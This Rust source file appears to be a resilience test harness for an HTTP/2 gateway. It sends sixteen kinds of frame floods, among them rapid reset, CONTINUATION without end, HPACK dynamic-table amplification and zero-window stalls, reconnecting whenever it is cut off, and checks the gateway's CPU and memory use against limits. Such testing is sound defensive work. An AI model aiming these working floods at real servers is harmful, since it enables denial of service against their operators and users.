//! Floods of HTTP/2: frames that cost their sender nothing. Who is thrown out comes back.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, anyhow};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, Method, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, head,
};
use super::site::{Site, connect};
use super::watch::{self, mebibytes};
use super::{Honest, HostileFlags, Row};
use crate::upstream::BULK_PATH;

/// Connections at a time.
const CONNECTIONS: u32 = 10;
/// Frames in one write.
const BATCH: u32 = 50;
/// A flood that is stalled has come to its end.
const LIMIT: Duration = Duration::from_secs(20);
/// The niceness of who sends it.
const LEAST_PRIORITY: i32 = 19;
/// Processor time that it may cost.
const CPU: Duration = Duration::from_secs(1);
/// Memory that it may cost.
const MEMORY: u64 = 64 << 20;
/// The setting for the windows of streams.
const INITIAL_WINDOW_SIZE: u16 = 4;

/// A flood.
pub(super) struct Flood {
    pub(super) what: &'static str,
    settings: &'static [(u16, u32)],
    /// What comes before the flood.
    opening: fn(&mut Frames),
    /// One more of it, on a stream that is not in use; returns how many frames it is.
    more: fn(&mut Frames, u32) -> u32,
    /// Whether what the gateway answers is read.
    is_read: bool,
}

/// A flood without opening and settings.
const fn flood(what: &'static str, more: fn(&mut Frames, u32) -> u32, is_read: bool) -> Flood {
    Flood { what, settings: &[], opening: |_| {}, more, is_read }
}

/// All that are tried.
pub(super) const ALL: &[Flood] = &[
    flood("rapid reset", rapid_reset, true),
    flood("reset by a window of zero", made_to_reset, true),
    flood("data behind the end of a stream", late_data, true),
    flood("heads behind the end of a stream", late_head, true),
    flood("priority of the wrong length", short_priority, true),
    Flood {
        opening: |frames| frames.frame(HEADERS, 0, 1, &[]),
        ..flood("continuation without end", continuation, true)
    },
    flood("ping", ping, true),
    flood("ping without reading", ping, false),
    flood("settings", settings, true),
    flood("settings without reading", settings, false),
    Flood {
        opening: |frames| frames.request(Method::Post, END_HEADERS, 1, "/sink"),
        ..flood("empty data", empty_data, true)
    },
    flood("priority", priority, true),
    flood("window updates", window_update, true),
    flood("heads that unpack to megabytes", packed_head, true),
    flood("heads with a hundred hosts", many_hosts, true),
    Flood { settings: &[(INITIAL_WINDOW_SIZE, 0)], ..flood("answers into windows of zero", stalled, true) },
];

/// Tries one.
pub(super) fn row(flood: &'static Flood, site: &Site, flags: &HostileFlags) -> anyhow::Result<Row> {
    let gateway = site.gateway()?;
    let honest = Honest::start(site, &gateway, flags.rate)?;
    let idle = watch::during(&gateway, || {
        std::thread::sleep(Duration::from_secs(1));
        Ok(())
    });
    let of_honest = idle?.1.cpu;
    let began = std::time::Instant::now();
    let ((n_frames, n_connections), needed) = watch::during(&gateway, || send(flood, gateway.address, flags.frames))?;
    let cpu = needed.cpu.saturating_sub(of_honest.mul_f64(began.elapsed().as_secs_f64()));
    let waits = honest.end();
    Ok(Row {
        what: flood.what,
        goal: format!("{} frames: <= 1 CPU-second, <= 64 MiB", flags.frames),
        found: format!(
            "{:.2} s, {:.0} MiB; {n_frames} frames on {n_connections} connections; {}",
            cpu.as_secs_f64(),
            mebibytes(needed.memory),
            waits.text()
        ),
        is_met: cpu <= CPU && needed.memory <= MEMORY && waits.is_met(),
    })
}

/// Sends frames on several connections; returns how many there were, and on how many connections.
///
/// Whoever floods a gateway has processors of their own. Here everybody shares, so this thread takes what others leave:
/// honest clients wait for the gateway, and not for the sender.
fn send(flood: &'static Flood, address: SocketAddr, n_frames: u32) -> anyhow::Result<(u32, u32)> {
    let body = || {
        rustix::process::setpriority_process(None, LEAST_PRIORITY).context("lower the priority of the sender")?;
        send_all(flood, address, n_frames)
    };
    std::thread::scope(|scope| scope.spawn(body).join()).map_err(|_| anyhow!("the sender panicked"))?
}

fn send_all(flood: &'static Flood, address: SocketAddr, n_frames: u32) -> anyhow::Result<(u32, u32)> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().context("start threads")?;
    runtime.block_on(async {
        let mut tasks = JoinSet::new();
        for _ in 0..CONNECTIONS {
            tasks.spawn(insist(flood, address, n_frames / CONNECTIONS));
        }
        let sums = tasks.join_all().await;
        Ok(sums.into_iter().fold((0, 0), |sum, one| (sum.0 + one.0, sum.1 + one.1)))
    })
}

/// Sends frames, on another connection when one is closed, until there are enough.
async fn insist(flood: &'static Flood, address: SocketAddr, wanted: u32) -> (u32, u32) {
    let (mut n_frames, mut n_connections) = (0, 0);
    let all = async {
        while n_frames < wanted {
            n_connections += 1;
            // Whoever is thrown out comes back.
            let _ = converse(flood, address, wanted, &mut n_frames).await;
        }
    };
    let _ = tokio::time::timeout(LIMIT, all).await;
    (n_frames, n_connections)
}

async fn converse(flood: &Flood, address: SocketAddr, wanted: u32, n_frames: &mut u32) -> std::io::Result<()> {
    let (mut answers, mut stream) = connect(address).await?.into_split();
    let mut frames = Frames::preface(flood.settings);
    (flood.opening)(&mut frames);
    let write = async {
        // The first stream is that of the opening.
        let mut id = 3;
        while *n_frames < wanted {
            let mut n_new = 0;
            while n_new < BATCH {
                n_new += (flood.more)(&mut frames, id);
                id += 2;
            }
            stream.write_all(&frames.0).await?;
            *n_frames += n_new;
            frames.0.clear();
        }
        // What was sent last is to be dealt with too.
        tokio::time::sleep(Duration::from_secs(1)).await;
        Ok(())
    };
    let read = async {
        let mut buffer = vec![0; 64 << 10];
        while flood.is_read && answers.read(&mut buffer).await? > 0 {}
        if flood.is_read { Ok(()) } else { std::future::pending().await }
    };
    tokio::select! {
        result = write => result,
        result = read => result,
    }
}

fn rapid_reset(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    frames.frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
    2
}

fn made_to_reset(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    frames.frame(WINDOW_UPDATE, 0, id, &[0; 4]);
    2
}

fn late_data(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    frames.frame(DATA, 0, id, b"x");
    2
}

fn late_head(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    2
}

fn short_priority(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, "/");
    frames.frame(PRIORITY, 0, id, &[0; 4]);
    2
}

fn continuation(frames: &mut Frames, _: u32) -> u32 {
    frames.frame(CONTINUATION, 0, 1, &field("x-more", "of the same"));
    1
}

fn ping(frames: &mut Frames, id: u32) -> u32 {
    frames.frame(PING, 0, 0, &u64::from(id).to_be_bytes());
    1
}

fn settings(frames: &mut Frames, id: u32) -> u32 {
    let [a, b, c, d] = (id % 1000 + 1).to_be_bytes();
    frames.frame(SETTINGS, 0, 0, &[0, 3, a, b, c, d]);
    1
}

fn empty_data(frames: &mut Frames, _: u32) -> u32 {
    frames.frame(DATA, 0, 1, &[]);
    1
}

fn priority(frames: &mut Frames, id: u32) -> u32 {
    frames.frame(PRIORITY, 0, id, &[0, 0, 0, 0, 16]);
    1
}

fn window_update(frames: &mut Frames, _: u32) -> u32 {
    frames.frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
    1
}

/// A field of 4 KB once, and then its number in the dynamic table, a byte each time.
fn packed_head(frames: &mut Frames, id: u32) -> u32 {
    let mut block = head(Method::Get, "/");
    // A name of three bytes and a value of 3,000, whose length is an integer of two more bytes, with indexing.
    block.extend([0x40, 3]);
    block.extend(b"x-a");
    block.extend([0x7f, 0xb9, 0x16]);
    block.extend([b'a'; 3000]);
    block.extend([0xbe; 4000]);
    frames.frame(HEADERS, END_HEADERS | END_STREAM, id, &block);
    1
}

fn many_hosts(frames: &mut Frames, id: u32) -> u32 {
    let block: Vec<u8> = [head(Method::Get, "/"), field("host", "other.example").repeat(100)].concat();
    frames.frame(HEADERS, END_HEADERS | END_STREAM, id, &block);
    1
}

fn stalled(frames: &mut Frames, id: u32) -> u32 {
    frames.request(Method::Get, END_HEADERS | END_STREAM, id, BULK_PATH);
    1
}
